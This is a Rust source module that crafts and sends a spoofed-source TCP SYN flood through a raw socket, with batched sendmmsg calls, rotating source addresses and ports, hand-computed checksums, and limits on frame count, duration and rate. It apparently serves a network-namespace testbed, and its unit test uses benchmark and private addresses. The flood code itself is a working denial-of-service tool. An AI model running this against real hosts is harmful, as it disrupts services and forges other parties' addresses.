//! A flood of spoofed SYNs, bounded in number and in time.

use std::{
    io,
    net::{Ipv4Addr, SocketAddrV4},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, anyhow};
use etherparse::{PacketBuilder, PacketBuilderStep, TcpHeader};

use super::{
    frame::{RawSocket, message_headers},
    layout::INTERFACE,
};

/// Frames a system call.
pub(super) const BATCH: usize = 64;
pub(super) const IP: usize = 14;
pub(super) const TCP: usize = 34;
/// 14 of Ethernet, 20 of IPv4, 20 of TCP and its maximum segment size option.
const LENGTH: usize = 58;

/// What to send: a SYN from each source in turn, each with another port and sequence number.
#[derive(Clone, Debug)]
pub struct SynFlood {
    /// The first spoofed source.
    pub first_source: Ipv4Addr,
    /// How many addresses from there on; 0 counts as 1.
    pub sources: u32,
    /// Address and port that are flooded.
    pub to: SocketAddrV4,
    /// It ends after so many frames,
    pub frames: u64,
    /// or after this time, whichever comes first.
    pub longest: Duration,
    /// Frames a second; as fast as it goes if none.
    pub rate: Option<u32>,
}

/// What was sent.
#[derive(Clone, Copy, Debug)]
pub struct FloodReport {
    /// Frames that the kernel took.
    pub frames: u64,
    /// From the first to the last.
    pub elapsed: Duration,
}

impl FloodReport {
    /// Frames a second.
    pub fn rate(&self) -> f64 {
        let seconds = self.elapsed.as_secs_f64();
        // A count of frames is far below 2^52.
        #[expect(clippy::cast_precision_loss, reason = "exact up to 2^52 frames")]
        let frames = self.frames as f64;
        if seconds > 0.0 { frames / seconds } else { 0.0 }
    }
}

/// Sends it from `eth0` of the calling thread's namespace.
pub(super) fn send(flood: &SynFlood, from: [u8; 6], to: [u8; 6]) -> Result<FloodReport> {
    let socket = RawSocket::open(INTERFACE)?;
    socket.bypass_queueing()?;
    let mut frames = vec![template(flood, from, to)?; BATCH];
    let start = Instant::now();
    let mut sent = 0;
    while sent < flood.frames && start.elapsed() < flood.longest {
        let batch = usize::try_from(flood.frames - sent).unwrap_or(BATCH).min(BATCH);
        for (number, frame) in (sent..).zip(&mut frames[..batch]) {
            vary(frame, flood, number);
        }
        sent += send_batch(&socket, &mut frames[..batch])?;
        if let Some(rate) = flood.rate {
            let due = Duration::from_secs_f64(f64::from(u32::try_from(sent)?) / f64::from(rate.max(1)));
            thread::sleep(due.saturating_sub(start.elapsed()));
        }
    }
    Ok(FloodReport { frames: sent, elapsed: start.elapsed() })
}

fn template(flood: &SynFlood, from: [u8; 6], to: [u8; 6]) -> Result<[u8; LENGTH]> {
    let builder = PacketBuilder::ethernet2(from, to)
        .ipv4(flood.first_source.octets(), flood.to.ip().octets(), 64)
        .tcp(1, flood.to.port(), 0, 64_240)
        .syn()
        .options(&[etherparse::TcpOptionElement::MaximumSegmentSize(1460)])
        .context("a maximum segment size is a TCP option")?;
    frame_of(builder, &[])
}

/// Makes it the `number`th frame: source address, source port, sequence number, and both checksums.
fn vary(frame: &mut [u8; LENGTH], flood: &SynFlood, number: u64) {
    let sources = u64::from(flood.sources.max(1));
    // Both remainders fit their type.
    let nth = u32::try_from(number % sources).unwrap_or_default();
    let port = u16::try_from(number / sources % 64_000).unwrap_or_default() + 1024;
    let source = u32::from(flood.first_source).wrapping_add(nth);
    // Spread over the whole range, and the same in every run.
    let sequence = u32::from(port).wrapping_mul(0x9e37_79b9) ^ source.wrapping_mul(0x85eb_ca6b);
    frame[IP + 12..IP + 16].copy_from_slice(&source.to_be_bytes());
    frame[TCP..TCP + 2].copy_from_slice(&port.to_be_bytes());
    frame[TCP + 4..TCP + 8].copy_from_slice(&sequence.to_be_bytes());
    mend(frame);
}

/// A frame of `N` bytes.
pub(super) fn frame_of<const N: usize>(
    builder: PacketBuilderStep<TcpHeader>,
    data: &[u8],
) -> Result<[u8; N]> {
    let mut frame = Vec::with_capacity(N);
    builder.write(&mut frame, data).context("cannot write a frame")?;
    frame.try_into().map_err(|frame: Vec<u8>| anyhow!("a frame has {} bytes, not {N}", frame.len()))
}

/// Writes the checksums of a frame without data: IPv4's and TCP's.
pub(super) fn mend(frame: &mut [u8]) {
    frame[IP + 10..IP + 12].fill(0);
    let header = !fold(sum(&frame[IP..TCP]));
    frame[IP + 10..IP + 12].copy_from_slice(&header.to_be_bytes());

    frame[TCP + 16..TCP + 18].fill(0);
    // The pseudo-header: both addresses, protocol 6, the segment's length (RFC 9293 section 3.1).
    let length = u32::try_from(frame.len() - TCP).unwrap_or_default();
    let segment = !fold(sum(&frame[IP + 12..]) + 6 + length);
    frame[TCP + 16..TCP + 18].copy_from_slice(&segment.to_be_bytes());
}

/// The sum of 16-bit words of an even number of bytes (RFC 1071).
fn sum(bytes: &[u8]) -> u32 {
    bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

fn fold(sum: u32) -> u16 {
    let once = (sum & 0xffff) + (sum >> 16);
    // Folded twice, 16 bits are left.
    u16::try_from((once & 0xffff) + (once >> 16)).unwrap_or(u16::MAX)
}

/// How many of the frames the kernel took; none if its queue was full at this moment.
pub(super) fn send_batch<const N: usize>(socket: &RawSocket, frames: &mut [[u8; N]]) -> Result<u64> {
    let vector = |frame: &mut [u8; N]| libc::iovec { iov_base: frame.as_mut_ptr().cast(), iov_len: N };
    let mut vectors: Vec<libc::iovec> = frames.iter_mut().map(vector).collect();
    let mut messages = message_headers(&mut vectors);
    let count = u32::try_from(messages.len())?;
    // SAFETY: each header points to one vector and that to one frame; all three outlive the call.
    let sent = unsafe { libc::sendmmsg(socket.fd(), messages.as_mut_ptr(), count, 0) };
    match u64::try_from(sent) {
        Ok(sent) => Ok(sent),
        Err(_) => match io::Error::last_os_error() {
            full if full.raw_os_error() == Some(libc::ENOBUFS) => {
                thread::yield_now();
                Ok(0)
            }
            error => Err(error).context("cannot send a batch of frames"),
        },
    }
}

#[cfg(test)]
mod tests {
    use etherparse::SlicedPacket;

    use super::*;

    #[test]
    fn every_syn_of_a_flood_is_another_connection_with_right_checksums() {
        let flood = SynFlood {
            first_source: Ipv4Addr::new(198, 18, 0, 0),
            sources: 300,
            to: "192.168.85.150:443".parse().unwrap(),
            frames: 1000,
            longest: Duration::from_secs(1),
            rate: None,
        };
        let mut frame = template(&flood, [2; 6], [4; 6]).unwrap();
        let mut seen = std::collections::HashSet::new();
        for number in 0..flood.frames {
            vary(&mut frame, &flood, number);
            let packet = SlicedPacket::from_ethernet(&frame).unwrap();
            let Some(etherparse::NetSlice::Ipv4(ip)) = packet.net else { panic!("not IPv4") };
            let Some(etherparse::TransportSlice::Tcp(tcp)) = packet.transport else { panic!("not TCP") };
            assert_eq!(ip.header().header_checksum(), ip.header().to_header().calc_header_checksum());
            assert_eq!(
                tcp.checksum(),
                tcp.calc_checksum_ipv4(ip.header().to_header().source, ip.header().destination()).unwrap()
            );
            assert!(tcp.syn() && !tcp.ack());
            assert!(seen.insert((ip.header().source(), tcp.source_port())));
        }
    }
}
